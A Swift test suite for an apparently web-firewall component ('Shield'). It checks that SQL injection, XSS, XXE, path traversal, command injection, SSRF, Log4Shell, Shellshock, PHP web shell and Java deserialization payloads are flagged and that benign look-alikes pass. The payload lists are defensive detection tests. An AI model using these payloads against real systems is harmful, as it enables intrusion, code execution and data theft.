import BulwarkTesting
import Foundation
import HTTPTypes
import Testing

@testable import Bulwark

@Suite("Shield")
struct ShieldTests {
    let shield = Shield()

    @Test(
        "each family is recognised in a value",
        arguments: [
            ("1' or '1'='1", ShieldAttack.sqlInjection),
            ("-1 union all select null,version()--", .sqlInjection),
            ("admin'--", .sqlInjection),
            ("1; drop table users", .sqlInjection),
            ("1 and sleep(5)", .sqlInjection),
            ("1%27%20or%201%3D1--", .sqlInjection),
            // Time delays and blind oracles: WAITFOR, a function or CASE on a comparison of literals.
            ("1;waitfor delay '0:0:5'--", .sqlInjection),
            ("1\")) waitfor delay '0:0:5' and ((\"a\"=\"a", .sqlInjection),
            ("iif(2976=2976,1,1/0)", .sqlInjection),
            ("elt(2567=9921,9921)", .sqlInjection),
            ("1,(case when 6620=3092 then 1 else null end)", .sqlInjection),
            // The edges of the shapes that prose shares: a `#` that ends the value, a procedure after
            // EXEC, a condition after HAVING, an operator between quotes, arithmetic in a condition.
            ("admin'#", .sqlInjection),
            ("1; exec xp_cmdshell 'dir'", .sqlInjection),
            ("1' having 1=1--", .sqlInjection),
            ("3 where prod.id=3/*", .sqlInjection),
            ("aa'LIKE'0", .sqlInjection),
            ("A' DIV 'B", .sqlInjection),
            ("1 and 1*1=1", .sqlInjection),
            ("<script>alert(1)</script>", .crossSiteScripting),
            ("<img src=x onerror=alert(1)>", .crossSiteScripting),
            ("\" autofocus onfocus=alert(document.domain) x=\"", .crossSiteScripting),
            ("<a href=\"&#x6a;avascript:alert(1)\">x</a>", .crossSiteScripting),
            ("javascript:alert(document.cookie)", .crossSiteScripting),
            ("self['\\u0061lert'](1)", .crossSiteScripting),
            ("confirm.call(null,1)", .crossSiteScripting),
            ("alert?.(document?.cookie)", .crossSiteScripting),
            ("<br size=\"&{document.cookie=true}\">", .crossSiteScripting),
            ("<span datasrc=#i datafld=c dataformatas=html></span>", .crossSiteScripting),
            ("<link rel=\"stylesheet\" href=\"http://evil.example/x.css\">", .crossSiteScripting),
            // UTF-7, JSFuck, properties reached through comments and brackets, tagged templates,
            // refresh redirects, HTML components and XBL bindings.
            ("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", .crossSiteScripting),
            ("(document)[\"cookie\"]", .crossSiteScripting),
            ("(document/*x*/)[\"cookie\"]", .crossSiteScripting),
            ("(![]+[])[+!+[]]", .crossSiteScripting),
            ("[].sort.call`${alert}1337`", .crossSiteScripting),
            ("<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">", .crossSiteScripting),
            ("<?import namespace=\"t\" implementation=\"#default#time2\">", .crossSiteScripting),
            ("a{-moz-binding:url(//evil.example/x.xml#x)}", .crossSiteScripting),
            (
                "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ENTITY xxe SYSTEM "
                    + "+ACI-http://evil.example/+ACI +AD4AXQA+",
                .xmlExternalEntity
            ),
            ("../../../../etc/passwd", .pathTraversal),
            ("..%c0%af..%c0%afetc%c0%afpasswd", .pathTraversal),
            ("file:///etc/shadow", .pathTraversal),
            ("file://foo.bar", .pathTraversal),
            ("; cat /etc/hosts", .commandInjection),
            ("a|/usr/bin/id", .commandInjection),
            ("$(whoami)", .commandInjection),
            ("x;c'a't${IFS}/etc/issue", .commandInjection),
            // cmd.exe's compound statements, read by their grammar.
            ("for /f \"tokens=*\" %G in ('dir /b') do echo %G", .commandInjection),
            ("FOR /R C:\\temp\\ %%G IN (*.bak) DO Echo del \"%%G\"", .commandInjection),
            ("& FOR %a IN (a,b,c)DO cmd", .commandInjection),
            ("IF NOT EXIST C:\\nonexistent echo hey", .commandInjection),
            ("x& if %errorlevel% neq 0 exit /b 1", .commandInjection),
            ("if /i \"%var%\"==\"1\" (echo one)", .commandInjection),
            ("http://169.254.169.254/latest/meta-data/", .serverSideRequestForgery),
            ("http://0x7f000001/admin", .serverSideRequestForgery),
            ("gopher://127.0.0.1:6379/_INFO", .serverSideRequestForgery),
            // Each way a host is read: a name, a wildcard-DNS subdomain, an internal suffix, IPv6 in
            // brackets, inet_aton's short and octal forms.
            ("https://metadata.tencentyun.com/latest", .serverSideRequestForgery),
            ("http://a.127.0.0.1.nip.io/", .serverSideRequestForgery),
            ("http://x.oastify.com/p", .serverSideRequestForgery),
            ("http://db.corp.internal:5432/", .serverSideRequestForgery),
            ("http://[::1]/admin", .serverSideRequestForgery),
            ("http://user@127.1/", .serverSideRequestForgery),
            ("http://0177.0.0.1/", .serverSideRequestForgery),
            ("{{7*7}}", .templateInjection),
            // Delimiters closed by a single brace (Spring, Thymeleaf, JSF, Razor-style probes).
            ("${7*7}", .templateInjection),
            ("#{7*7}", .templateInjection),
            ("*{T(java.lang.Runtime).getRuntime().exec('id')}", .templateInjection),
            ("@{7*7} and more text after it", .templateInjection),
            ("{{''.__class__.__mro__[1].__subclasses__()}}", .templateInjection),
            ("${jndi:ldap://evil.example/a}", .log4Shell),
            ("${${lower:j}${::-n}di:rmi://x/y}", .log4Shell),
            ("() { :; }; /bin/bash -c id", .shellshock),
            (
                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
                .xmlExternalEntity
            ),
            ("{\"$where\": \"sleep(1000)\"}", .noSQLInjection),
            ("<?php system($_GET['c']); ?>", .codeInjection),
            ("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", .codeInjection),
            ("x%0d%0aSet-Cookie: admin=1", .responseSplitting),
            ("*)(uid=*))(|(uid=*", .ldapInjection),
            ("*(|(objectclass=*))", .ldapInjection),
            ("userPassword:2.5.13.18:=123", .ldapInjection),
            ("x\r\nRCPT TO: victim@evil.example\r\n", .mailInjection),
            ("\r\nV100 CAPABILITY\r\nV101 FETCH 4791", .mailInjection),
            ("\r\nQUIT\r\n", .mailInjection),
            ("<!--#exec cmd=\"ls\" -->", .codeInjection),
            ("!!python/object/apply:os.system ['id']", .codeInjection),
            ("db.users.insert({admin:1});", .noSQLInjection),
            ("', $or: [ {}, { 'a':'a", .noSQLInjection),
            ("\\\\127.0.0.1\\c$\\users\\default\\ntuser.dat", .pathTraversal),
            ("|getent hosts evil.example", .commandInjection),
            // More programs, commands that run the next one, process substitution, empty expansions.
            (";flock -u / whoami", .commandInjection),
            ("x;time ifconfig", .commandInjection),
            ("a;cd ~", .commandInjection),
            ("<(cat file)", .commandInjection),
            ("$(who$()ami)", .commandInjection),
            // A condition followed by a clause that only ends a query.
            ("' or 1 limit 1 --", .sqlInjection),
            ("1' and 1 order by 2-- ", .sqlInjection),
            // Arguments injected into programs that run an option's value.
            ("--open-files-in-pager=touch /tmp/success;", .commandInjection),
            ("-TvTT=id>shell.php # a.zip", .commandInjection),
            ("--checkpoint-action=exec=sh shell.sh", .commandInjection),
            ("-oProxyCommand=curl evil.example", .commandInjection),
            // Still form-encoded: pluses and no spaces, decoded once more by the application.
            ("+|+dir+c:/", .commandInjection),
            ("%7Cgetent+hosts+x.example.%26", .commandInjection),
            ("1'+or+sleep(5)+--+", .sqlInjection),
        ]
    )
    func recognises(_ payload: String, _ attack: ShieldAttack) {
        let request = BulwarkRequest.get("/search?q=" + percentEncoded(payload))
        let findings = shield.inspect(request)
        #expect(findings.contains(ShieldFinding(attack: attack, location: "query.q")), "\(payload): \(findings)")
    }

    @Test(
        "ordinary values pass",
        arguments: [
            "O'Brien", "rock'n'roll", "Don't stop me now", "14 X 18\" frame", "select all items from the list",
            "union was a great select", "john+or@var.es", "1/26/11", "7 AND HALF", "echo in the mirror",
            "ls 300 lexus", "JavaScript: Basics of JavaScript Language", "https://example.com/a/b?c=d",
            "C:\\Program Files\\App", "price >= 10 and <= 20", "javascript:void(0)", "../images/logo.png",
            "The system prompt field", "{{name}}", "a; b; c", "Tom & Jerry | Cartoons", "2 * 3 = 6",
            "user@example.com", "<b>bold</b> and <i>italic</i>", "Error: at Object.u (https://x.example/a.js:1:2)",
            "Total: ${price} for #{count} items", "Hello @{user}, see *{field}", "${HOME}/bin and ${1} and #{2020}",
            "waitfor the delay to pass", "in case when 2 = 3 people come", "f(x=1, y=2)", "round(2.5)",
            "for 10% in (2020) we did more", "If not defined, the default is used", "if you want to, do it",
            "ifq a==b foo", "if foo==", "<link rel=\"icon\" href=\"https://example.com/favicon.ico\">",
            "call the alert.call center", "Tom &{ Jerry }", "Seats:\r\nA1 select your seat\r\nB2 list of meals",
            "Line one\r\nQuit smoking today", "see db.json for the users", "ratio 1.2.3:=4",
            "Looking for % in (brackets) done", "motif exist here echo",
            // libinjection's look-alikes: SQL words and quotes in prose and in URLs.
            "\"WHERE'S GEORGE\"", "7\" #2 CIRCULAR NEEDLE", "FOO BAR'# BLAH", "I having true friends",
            "select x from y where", "1; exec will create the case 7", "9!6 EARINGS", "1 AND 1/2\" BUTTON",
            "/search/handmade?search_submit=&q=\"LIKE\"+STAMP&view_type=gallery", "Foo and 80&#039;s Foo / Bar",
            "Zm9vYmFy+ACdef+AD4=", "C++ and C#, a+b+c", "!!! wow !!! [ok] (yes) [[]]", "the document (cookie policy)",
            "use fn.call`x` for tagged templates", "<meta charset=\"utf-8\">",
            "file:///vscode/resources/letterpress-dark.svg", "Books; CD / DVD; Games", "a; time to go",
            "nice; watch this", "x <(y) z", "f(<(a)>)",
            // Public hosts that look like the internal ones.
            "https://8.8.8.8/dns-query", "https://nip.io.example.com/x", "https://docs.internal-tools.example.com/",
            "https://oastify.com.example.org/", "gopherfan://example.com/",
            // Options that are not commands, and a number of items to fetch.
            "--format=json", "-tt", "--exec=foo", "--upload-pack=", "I pick 3 or 1 limit 2 of them",
            "2+2=4;3+3=6", "a+b|c+d", "Tom+&+Jerry", "C++ (a+b) ls dir", "search+for+union+select+tutorial",
        ]
    )
    func passes(_ value: String) {
        let findings = shield.inspect(BulwarkRequest.get("/search?q=" + percentEncoded(value)))
        #expect(findings.isEmpty, "\(value): \(findings)")
    }

    @Test("every part of the request is inspected and named")
    func locations() {
        var headers: HTTPFields = [:]
        headers[HTTPField.Name("cookie")!] = "session=abc; pref=1' or '1'='1"
        headers[.userAgent] = "() { :; }; echo vulnerable"
        headers[HTTPField.Name("referer")!] = "https://example.com/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
        let request = BulwarkRequest.post(
            "/a/..%2f..%2fetc/passwd?$where=1",
            body:
                #"{"user": {"name": "x' union select password from users--"}, "tags": ["ok", "<svg/onload=alert(1)>"]}"#,
            headers: headers
        )
        let findings = Set(shield.inspect(request))
        #expect(findings.contains(ShieldFinding(attack: .pathTraversal, location: "path")))
        #expect(findings.contains(ShieldFinding(attack: .sqlInjection, location: "cookie.pref")))
        #expect(findings.contains(ShieldFinding(attack: .shellshock, location: "header.user-agent")))
        #expect(findings.contains(ShieldFinding(attack: .crossSiteScripting, location: "header.referer")))
        #expect(findings.contains(ShieldFinding(attack: .sqlInjection, location: "body.json.user.name")))
        #expect(findings.contains(ShieldFinding(attack: .crossSiteScripting, location: "body.json.tags[1]")))
    }

    @Test("form, multipart and XML bodies are read by their structure")
    func bodies() {
        let form = BulwarkRequest.post(
            "/login",
            body: "user=admin%27--&pass=x",
            contentType: "application/x-www-form-urlencoded"
        )
        #expect(shield.inspect(form).contains(ShieldFinding(attack: .sqlInjection, location: "body.form.user")))
        let multipart = BulwarkRequest.post(
            "/upload",
            body: "--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../shell.php\"\r\n"
                + "Content-Type: application/octet-stream\r\n\r\n<?php system($_GET['c']); ?>\r\n--XyZ--\r\n",
            contentType: "multipart/form-data; boundary=XyZ"
        )
        let found = Set(shield.inspect(multipart))
        #expect(found.contains(ShieldFinding(attack: .pathTraversal, location: "body.multipart.file.filename")))
        #expect(found.contains(ShieldFinding(attack: .codeInjection, location: "body.multipart.file")))
        let xml = BulwarkRequest.post(
            "/soap",
            body:
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"http://x/\">]><a>&lt;script&gt;alert(1)&lt;/script&gt;</a>",
            contentType: "text/xml"
        )
        let xmlFound = Set(shield.inspect(xml).map(\.attack))
        #expect(xmlFound.contains(.xmlExternalEntity))
        #expect(xmlFound.contains(.crossSiteScripting))
    }

    /// A multipart upload of one file.
    private func upload(_ filename: String, type: String = "image/png", content: String = "x") -> BulwarkRequest {
        BulwarkRequest.post(
            "/upload",
            body: "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"\(filename)\"\r\n"
                + "Content-Type: \(type)\r\n\r\n\(content)\r\n--XyZ--\r\n",
            contentType: "multipart/form-data; boundary=XyZ"
        )
    }

    @Test(
        "a file named as a server script is an upload of code, however the name hides it",
        arguments: [
            "shell.php", "cmd.PHP5", "a.phtml", "x.phar", "shell.jsp", "b.jspx", "cmd.aspx", "x.asp", "h.ashx",
            "photo.php  ", "photo.php.", "a.jsp...", "photo. php", "dangerous. phtml", "x.php%00.png", "x.asp;.jpg",
            "info.php.jpg", "test.php7.gif", "test.phar.png", "../../uploads/shell.php", "C:\\temp\\a.php",
            ".htaccess", "web.config", ".user.ini",
        ]
    )
    func scriptUploads(_ filename: String) {
        let findings = shield.inspect(upload(filename))
        #expect(
            findings.contains(ShieldFinding(attack: .codeInjection, location: "body.multipart.f.filename")),
            "\(filename): \(findings)"
        )
    }

    @Test(
        "ordinary file names pass",
        arguments: [
            "photo.jpg", "report.pdf", "archive.tar.gz", "safe.phpinfo", "Intro to ASP.NET.pdf", "book.asp.net.pdf",
            "notes.txt", "php", "my.photo.png", "jsp-guide.pdf", "index.php-screenshot.png", "config.yml",
        ]
    )
    func ordinaryFileNames(_ filename: String) {
        let findings = shield.inspect(upload(filename))
        #expect(findings.isEmpty, "\(filename): \(findings)")
    }

    @Test("PHP in a file that claims to be media is read; media without it is not")
    func phpInMedia() {
        let polyglot = upload("111.png", content: "GIF89a\n\n<?php\nsystem($_GET[cmd]);")
        #expect(shield.inspect(polyglot).contains(ShieldFinding(attack: .codeInjection, location: "body.multipart.f")))
        let upper = upload("cat.gif", type: "image/gif", content: "GIF89a\u{01}\u{02}<?PHP eval($_POST[x]);")
        #expect(shield.inspect(upper).contains(ShieldFinding(attack: .codeInjection, location: "body.multipart.f")))
        // an image's bytes with a `<?` that opens no PHP, and text a media file may carry
        let image = upload(
            "cat.png",
            content: "\u{89}PNG\r\n<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?>; system("
        )
        #expect(shield.inspect(image).isEmpty)
    }

    @Test("a file name in an upload header is read as one")
    func fileNameHeaders() {
        var headers: HTTPFields = [:]
        headers[HTTPField.Name("x-file-name")!] = "fda.php5..."
        let findings = shield.inspect(
            BulwarkRequest.post("/upload", body: "x", contentType: "image/png", headers: headers)
        )
        #expect(findings == [ShieldFinding(attack: .codeInjection, location: "header.x-file-name")])
    }

    @Test("content negotiation headers pass while they keep to their grammar and are read when they do not")
    func negotiationHeaders() {
        func findings(_ name: String, _ value: String) -> [ShieldFinding] {
            var headers: HTTPFields = [:]
            headers[HTTPField.Name(name)!] = value
            return shield.inspect(BulwarkRequest.get("/", headers: headers))
        }
        for (name, value) in [
            ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
            ("accept", "application/signed-exchange;v=b3;q=0.7"), ("accept", "*/*"),
            ("accept-language", "zh-CN,zh;q=0.9,en-US;q=0.8,en;q=0.7"), ("accept-encoding", "gzip, deflate, br, zstd"),
            ("accept-charset", "utf-8, iso-8859-1;q=0.5"), ("accept", "text/plain; charset=utf-8"),
        ] {
            #expect(ShieldRequestValues.isWellFormedNegotiation(value.utf8), "\(value)")
            #expect(findings(name, value).isEmpty, "\(name): \(value)")
        }
        for value in ["../../etc/passwd", "text/html;q=", "a/b/c", ";q=1", "en' or 1", "text/html;q=0.9 x", "x;y"] {
            #expect(!ShieldRequestValues.isWellFormedNegotiation(value.utf8), "\(value)")
        }
        #expect(
            findings("accept", "../../../../../../../../etc/passwd{{")
                == [ShieldFinding(attack: .pathTraversal, location: "header.accept")]
        )
        #expect(
            findings("accept-language", "en' or '1'='1")
                == [ShieldFinding(attack: .sqlInjection, location: "header.accept-language")]
        )
    }

    @Test("an exclusion silences a family at a location, and only there")
    func exclusions() throws {
        let rich = Shield(exclusions: [ShieldExclusion(location: "body.json.post.*", attacks: [.crossSiteScripting])])
        let request = BulwarkRequest.post(
            "/posts",
            body: #"{"post": {"html": "<script>track()</script>"}, "title": "<script>alert(1)</script>"}"#
        )
        let findings = rich.inspect(request)
        #expect(findings == [ShieldFinding(attack: .crossSiteScripting, location: "body.json.title")])
    }

    @Test(
        "Java class references and serialized objects are code injection, wherever they travel",
        arguments: [
            "java.lang.Runtime", "java.lang.ProcessBuilder", "@java.lang.Runtime@getRuntime().exec('id')",
            "new java.io.BufferedReader(new java.io.InputStreamReader(p.getInputStream()))", "java.io.File",
            "javax.script.ScriptEngineManager", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
            "com.opensymphony.xwork2.dispatcher.HttpServletResponse", "org.apache.commons.collections.functors.X",
            "org.omg.CORBA", "java.Runtime", "ProcessBuilder.evil.clonetransformer", "runtime.invokertransformer",
            "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ", "xKztAAUAAA", "aced00057372",
        ]
    )
    func java(_ payload: String) {
        let form = BulwarkRequest.post(
            "/f",
            body: "v=" + percentEncoded(payload),
            contentType: "application/x-www-form-urlencoded"
        )
        #expect(Set(shield.inspect(form).map(\.attack)) == [.codeInjection], "form: \(payload)")
        var headers: HTTPFields = [:]
        headers[HTTPField.Name("cookie")!] = "\(payload)=1; v=\(payload)"
        headers[HTTPField.Name("x-token")!] = payload
        let elsewhere = BulwarkRequest.post(
            "/f",
            body: #"{"v": "\#(payload.replacingOccurrences(of: "\"", with: "'"))"}"#,
            headers: headers
        )
        let locations = Set(shield.inspect(elsewhere).filter { $0.attack == .codeInjection }.map(\.location))
        #expect(locations.isSuperset(of: ["cookie.v", "header.x-token", "body.json.v"]), "\(payload): \(locations)")
        // the name as well (a long name is shortened in the location)
        #expect(locations.contains { $0.hasPrefix("cookie.") && $0 != "cookie.v" }, "cookie name \(payload)")
    }

    @Test(
        "Java names in messages, stack frames and domains pass",
        arguments: [
            "Cannot deserialize instance of `java.util.ArrayList<java.lang.Integer>` out of VALUE_STRING",
            "java.io.IOException: Broken pipe", "at java.io.FileInputStream.open0(Native Method)",
            "at java.lang.Thread.run(Thread.java:748)", "java.lang.NullPointerException",
            "www.java.com", "java.com", "org.apache.logging.log4j", "com.example.app", "java.runtime.version",
            "Install the Java Runtime Environment", "1.8.0_292", "sun.com", "cars.com",
            "eyJydW50aW1lIjp7Im9zIjoiV2luZG93cyJ9fQ", "Cs7 and Kz and rO models", "placed faced spaced",
        ]
    )
    func javaLookAlikes(_ value: String) {
        #expect(shield.inspect(BulwarkRequest.get("/s?q=" + percentEncoded(value))).isEmpty, "\(value)")
    }

    @Test("XML element and attribute names are structure, their values are inspected")
    func xmlNames() {
        let names = BulwarkRequest.post(
            "/x",
            body: #"<?xml version="1.0"?><xml><java.lang.Runtime rO0ABQ="a">value</java.lang.Runtime></xml>"#,
            contentType: "application/xml"
        )
        #expect(shield.inspect(names).isEmpty)
        let values = BulwarkRequest.post(
            "/x",
            body: #"<?xml version="1.0"?><xml><e class="java.lang.ProcessBuilder">rO0ABQ</e></xml>"#,
            contentType: "application/xml"
        )
        #expect(Set(shield.inspect(values)) == [ShieldFinding(attack: .codeInjection, location: "body.xml")])
    }

    @Test("the strict level also denies any core Java class and base64 gadget names")
    func strictJava() {
        let strict = Shield(sensitivity: .strict)
        for value in ["java.lang.Integer", "org.apache.commons", "cHJvY2Vzc2J1aWxkZXI", "HByb2Nlc3NidWlsZGVy"] {
            let request = BulwarkRequest.get("/s?q=" + value)
            #expect(shield.inspect(request).isEmpty, "standard: \(value)")
            #expect(strict.inspect(request).map(\.attack) == [.codeInjection], "strict: \(value)")
        }
        // base64 JSON with a "runtime" key, as telemetry SDKs send it, passes even so
        #expect(strict.inspect(BulwarkRequest.get("/s?d=eyJydW50aW1lIjp7Im9zIjoiV2luZG93cyJ9fQ")).isEmpty)
    }

    @Test("the strict level also denies weaker signals")
    func strict() {
        let request = BulwarkRequest.get("/file?name=..%2Fsecret.txt")
        #expect(Shield().inspect(request).isEmpty)
        #expect(!Shield(sensitivity: .strict).inspect(request).isEmpty)
    }

    @Test("the shield rule denies with a SHIELD reason through the engine and the rules JSON")
    func rule() async throws {
        let data = Data(#"{"rules": [{"type": "shield", "mode": "LIVE"}]}"#.utf8)
        let bulwark = try Bulwark(configuration: JSONDecoder().decode(BulwarkConfiguration.self, from: data))
        let attack = await bulwark.protect(BulwarkRequest.get("/?id=1%20union%20select%20password%20from%20users"))
        #expect(attack.isDenied)
        #expect(attack.reason.shield?.shieldTriggered == true)
        #expect(attack.reason.shield?.attacks == [.sqlInjection])
        #expect(attack.reason.shield?.locations == ["query.id"])
        let json = String(decoding: try JSONEncoder().encode(attack.reason), as: UTF8.self)
        #expect(json.contains(#""type":"SHIELD""#) && json.contains(#""attacks":["SQLI"]"#))
        let decoded = try JSONDecoder().decode(Reason.self, from: Data(json.utf8))
        #expect(decoded.shield == attack.reason.shield)
        let clean = await bulwark.protect(BulwarkRequest.get("/?id=42"))
        #expect(clean.isAllowed)
        #expect(clean.results.first?.reason?.shield?.shieldTriggered == false)
    }

    @Test(
        "a bad shield configuration names the field",
        arguments: [
            (#"{"type": "shield", "sensitivity": "PARANOID"}"#, "sensitivity"),
            (#"{"type": "shield", "exclude": [{"location": ""}]}"#, "exclude[0].location"),
            (
                #"{"type": "shield", "exclude": [{"location": "x", "attacks": ["SQLI", "NOPE"]}]}"#,
                "exclude[0].attacks[1]"
            ),
            (#"{"type": "shield", "maxBodyBytes": 0}"#, "maxBodyBytes"),
            (#"{"type": "shield", "exclude": "body"}"#, "exclude"),
        ]
    )
    func badConfiguration(_ rule: String, _ field: String) throws {
        #expect(try configurationError(forRule: rule).field == field)
    }

    @Test("malformed and hostile input is bounded: no crash, no hang")
    func hostileInput() {
        let deep = String(repeating: "[", count: 10_000) + String(repeating: "]", count: 10_000)
        let inputs: [(String, String)] = [
            (deep, "application/json"),
            ("{\"a\": \"\\ud800\", \"b\": [1, 2, {\"c\": \"\\u12", "application/json"),
            ("--x\r\nContent-Disposition: form-data; name=\"a\r\n\r\n", "multipart/form-data; boundary=x"),
            (String(repeating: "<a ", count: 20_000), "text/xml"),
            (String(repeating: "%25", count: 50_000), "application/x-www-form-urlencoded"),
            (String(repeating: "${", count: 20_000), "text/plain"),
            (String(repeating: "'", count: 100_000), "text/plain"),
            // commands that run commands, read only a few deep; a UTF-7 run; JSFuck's alphabet
            ("; " + String(repeating: "nice time ", count: 50_000) + "id", "text/plain"),
            ("+" + String(repeating: "ADw", count: 100_000), "text/plain"),
            (String(repeating: "![]+[]", count: 50_000), "text/plain"),
        ]
        for (body, type) in inputs {
            _ = shield.inspect(BulwarkRequest.post("/", body: body, contentType: type))
        }
        let limited = Shield(limits: ShieldLimits(maxBodyBytes: 16, maxValues: 2, maxDepth: 2))
        let late = BulwarkRequest.post(
            "/",
            body: String(repeating: "a", count: 64) + "<script>alert(1)</script>",
            contentType: "text/plain"
        )
        #expect(limited.inspect(late).isEmpty)
    }

    private func percentEncoded(_ value: String) -> String {
        var allowed = CharacterSet.alphanumerics
        allowed.insert(charactersIn: "-._~")
        return value.addingPercentEncoding(withAllowedCharacters: allowed) ?? value
    }
}
